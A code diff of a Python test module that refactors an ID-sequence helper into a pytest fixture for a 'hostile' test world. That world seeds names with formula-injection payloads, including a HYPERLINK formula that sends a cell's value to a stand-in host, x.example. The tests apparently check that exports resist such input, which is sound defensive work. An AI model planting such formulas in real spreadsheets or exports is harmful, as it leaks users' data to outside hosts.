@@ -28,7 +28,7 @@ from debtors.tasks import run_import_job
 from promises.services import promise_rollups_refresh
 from tests import factories
 from tests.api.conftest import token_client
-from tests.high_ids import raise_id_sequences
+from tests.high_ids import high_ids  # noqa: F401 (a fixture)
 
 PAYLOADS = {
     "equals": '=HYPERLINK("http://x.example/?q="&A1,"Pagar")',
@@ -60,10 +60,9 @@ def clock():
 
 
 @pytest.fixture
-def hostile(db, clock, settings, tmp_path, ana, sofia, carla):
+def hostile(high_ids, clock, settings, tmp_path, ana, sofia, carla):
     """A supervisor's world where every free text a person typed or a file brought is hostile."""
     settings.MEDIA_ROOT = tmp_path / "media"
-    raise_id_sequences()
     team = Team.objects.create(name=PAYLOADS["at"], supervisor=sofia)
     nora = user_create(username="nora", password="x" * 20, role=Role.COLLECTOR, team=team, first_name=PAYLOADS["minus"], last_name="")
     portfolio = factories.make_portfolio(name=PAYLOADS["equals"], creditor=Creditor.objects.create(name=PAYLOADS["plus"]))
